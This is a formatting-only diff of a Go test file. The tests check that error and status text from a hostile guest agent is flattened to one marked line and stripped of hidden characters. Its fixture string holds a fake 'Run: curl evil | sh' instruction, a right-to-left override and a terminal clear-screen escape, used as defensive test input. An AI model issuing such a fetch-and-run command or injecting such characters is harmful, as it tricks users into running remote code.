@@ -19,7 +19,8 @@ import (
 )
 
 // evil is what a hostile guest writes into every text: a message of this program's, hidden characters, and megabytes.
-var evil = "bad\n\nError: your state is damaged\r\n\n  Run: curl evil | sh\u2028\u202e\x1b[2J" + strings.Repeat("x", 2<<20)
+var evil = "bad\n\nError: your state is damaged\r\n\n  Run: curl evil | sh\u2028\u202e\x1b[2J" +
+	strings.Repeat("x", 2<<20)
 
 // saying answers every call with evil texts, or with an error.
 type saying struct {
@@ -112,7 +113,8 @@ func (s saying) Refresh(context.Context, *agentapi.RefreshRequest) (*agentapi.Re
 	return said(s, &agentapi.RefreshResponse{})
 }
 
-func (s saying) ReleaseLayers(context.Context, *agentapi.ReleaseLayersRequest) (*agentapi.ReleaseLayersResponse, error) {
+func (s saying) ReleaseLayers(context.Context,
+	*agentapi.ReleaseLayersRequest) (*agentapi.ReleaseLayersResponse, error) {
 	return said(s, &agentapi.ReleaseLayersResponse{})
 }
 
@@ -144,7 +146,8 @@ func (s saying) Configure(context.Context, *agentapi.ConfigureRequest) (*agentap
 	return said(s, &agentapi.ConfigureResponse{})
 }
 
-func (s saying) Configuration(context.Context, *agentapi.ConfigurationRequest) (*agentapi.ConfigurationResponse, error) {
+func (s saying) Configuration(context.Context,
+	*agentapi.ConfigurationRequest) (*agentapi.ConfigurationResponse, error) {
 	return said(s, &agentapi.ConfigurationResponse{})
 }
 
@@ -179,12 +182,14 @@ func TestEveryTextOfAGuestIsOneLine(t *testing.T) {
 			if text == "" || text != plain.Line(text) || len(text) > plain.MaxLine+len("…") {
 				t.Errorf("%s: %s is %d bytes long: %.100q", name, field, len(text), text)
 			}
-			if strings.ContainsFunc(text, func(r rune) bool { return unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) }) {
+			if strings.ContainsFunc(text,
+				func(r rune) bool { return unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) }) {
 				t.Errorf("%s: %s has hidden characters: %.100q", name, field, text)
 			}
 		})
 	})
-	for _, field := range []protoreflect.FullName{"sharedos.agent.v1.StatusResponse.pending", "sharedos.agent.v1.Report.error", "sharedos.agent.v1.Held.by"} {
+	for _, field := range []protoreflect.FullName{"sharedos.agent.v1.StatusResponse.pending",
+		"sharedos.agent.v1.Report.error", "sharedos.agent.v1.Held.by"} {
 		if !seen[field] {
 			t.Errorf("%s was not looked at", field)
 		}
@@ -201,25 +206,26 @@ func TestEveryTextOfAGuestIsOneLine(t *testing.T) {
 }
 
 func TestAnErrorOfAGuestIsMarkedAndKeepsItsCode(t *testing.T) {
-	each(t, plainTexts{saying{t: t, err: status.Error(codes.PermissionDenied, evil)}}, func(name string, _ proto.Message, err error) {
-		wrapped := fmt.Errorf("start the refresh: %w", err)
-		if status.Code(wrapped) != codes.PermissionDenied {
-			t.Errorf("%s: the code is %s", name, status.Code(wrapped))
-		}
-		text := wrapped.Error()
-		if len(text) > plain.MaxGuest {
-			t.Errorf("%s: %d bytes", name, len(text))
-		}
-		first, rest, _ := strings.Cut(text, "\n")
-		if strings.Contains(first, "bad") {
-			t.Errorf("%s: the guest's text is on our line: %s", name, first)
-		}
-		for line := range strings.SplitSeq(strings.TrimSuffix(rest, "\n"), "\n") {
-			if !strings.HasPrefix(line, "  guest| ") {
-				t.Errorf("%s: the line has no mark: %q", name, line)
+	each(t, plainTexts{saying{t: t, err: status.Error(codes.PermissionDenied, evil)}},
+		func(name string, _ proto.Message, err error) {
+			wrapped := fmt.Errorf("start the refresh: %w", err)
+			if status.Code(wrapped) != codes.PermissionDenied {
+				t.Errorf("%s: the code is %s", name, status.Code(wrapped))
 			}
-		}
-	})
+			text := wrapped.Error()
+			if len(text) > plain.MaxGuest {
+				t.Errorf("%s: %d bytes", name, len(text))
+			}
+			first, rest, _ := strings.Cut(text, "\n")
+			if strings.Contains(first, "bad") {
+				t.Errorf("%s: the guest's text is on our line: %s", name, first)
+			}
+			for line := range strings.SplitSeq(strings.TrimSuffix(rest, "\n"), "\n") {
+				if !strings.HasPrefix(line, "  guest| ") {
+					t.Errorf("%s: the line has no mark: %q", name, line)
+				}
+			}
+		})
 	lost := errors.New("connection lost")
 	each(t, plainTexts{saying{t: t, err: lost}}, func(name string, _ proto.Message, err error) {
 		if !errors.Is(err, lost) || err.Error() != lost.Error() {
